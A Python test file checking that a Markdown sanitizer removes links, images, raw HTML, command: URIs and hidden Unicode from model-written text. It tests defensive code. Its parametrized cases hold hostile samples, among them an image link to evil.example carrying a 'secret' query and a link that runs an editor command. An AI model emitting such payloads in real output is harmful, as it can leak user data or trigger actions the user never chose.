"""What a model's Markdown cannot do, whatever it is: load, link, run (S8)."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from centaur.explanation.markdown import harmless, plain

ACTIVE = {"link_open", "image", "html_inline", "html_block"}
PARSER = MarkdownIt("commonmark", {"html": True})
ATOMS = (
    *"[]()!<>`*_#\\|=:\"'",
    *("``", "```", "~~~", "\n", "\n\n", "    ", "> ", "- ", "1. ", "\t", "\r", "a", "b c", "`x`"),
    *("http://x.y/z", "www.a.b", "x@y.z", "command:x", "data:image/png;base64,AA", "[r]: http://q", "[r][]"),
    *("<img src=x>", "<a href=y>", "<script>", "<!--", "-->", "&lt;", "&#91;", "&#96;", "&#10;", "&amp;"),
    *("\u202e", "\u2028", "\x0b", "\x85", "\u200b", "\\`", "\\["),
)


def active(markdown: str) -> set[str]:
    """What in the Markdown is a link, an image or HTML, as CommonMark sees it."""

    def kinds(tokens: list[Token]) -> set[str]:
        return {token.type for token in tokens}.union(*(kinds(token.children or []) for token in tokens))

    return kinds(PARSER.parse(markdown)) & ACTIVE


@settings(max_examples=500)
@given(st.lists(st.sampled_from(ATOMS), max_size=14).map("".join))
def test_nothing_in_it_is_a_link_an_image_or_html(text: str) -> None:
    assert active(harmless(text)) == set()


@settings(max_examples=300)
@given(st.text(max_size=40), st.integers(0, 40))
def test_nor_is_there_in_any_beginning_of_it(text: str, cut: int) -> None:
    hostile = f"{text}![i](http://e/i.png) [l](command:x) <img src=http://e> {text}"

    assert active(harmless(hostile[:cut])) == set()


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("See ![a chart](https://evil.example/?q=secret) here.", "See a chart here."),
        ("See [the docs](https://evil.example/x).", "See the docs."),
        ("Run [this](command:workbench.action.quit).", "Run this."),
        ("An ![i][1] and a [link][1].\n\n[1]: https://evil.example", "An i and a link.\n"),
        ('<img src="https://evil.example/p.png">text', "text"),
        ("<details><summary>s</summary>text</details>", "stext"),
        ("Go to <https://evil.example/p>.", r"Go to \<(link removed)>."),
        ("Go to https://evil.example/p now", "Go to (link removed) now"),
        ("Write to a@evil.example now", "Write to (link removed) now"),
        ("![x](data:image/svg+xml;base64,AAAA)", "x"),
        ("data:text/html;base64,AAAA is", "(link removed) is"),
        (r"\![x]\(y\)", "x"),
        ("&lt;img src=x&gt;text", "text"),
        ("hid\u202eden\u200b", "hidden"),
    ],
)
def test_what_could_be_loaded_or_followed_goes_and_the_words_stay(hostile: str, shown: str) -> None:
    assert harmless(hostile) == shown


@pytest.mark.parametrize(
    "innocent",
    [
        "**bold**, *italic* and `items[0] < 3`",
        "- one\n- two (L3-4)\n\n1. first",
        "```python\na[0] = b < c  # <img src=x>\n```",
        "std::vector and a::b, the data: yes, x:int",
        "# What it does",
        "a | b",
    ],
)
def test_what_is_innocent_stays_as_it_is(innocent: str) -> None:
    assert harmless(innocent) == innocent


def test_a_type_in_angle_brackets_stays_readable() -> None:
    assert harmless("a Vec<T> of List<int>") == r"a Vec\<T> of List\<int>"


def test_a_block_of_code_that_is_never_closed_is_closed() -> None:
    assert harmless("```\ncode\n![x](http://y)") == "```\ncode\n![x](http://y)\n```"


def test_the_plain_words_have_no_escapes_and_no_emphasis() -> None:
    assert plain(harmless("**One** of *them*: `a[0]` \\[x] <T>")) == "One of them: `a[0]` [x] <T>"


def test_a_long_answer_takes_no_time_worth_naming() -> None:
    for seed in ("[", "![", "`a", "<", "\\", "a@", "a.", "http:", "<a=", "<!--", "](", "``` "):
        assert not re.search(r"(?<!\\)\[", harmless(seed * (64_000 // len(seed))))
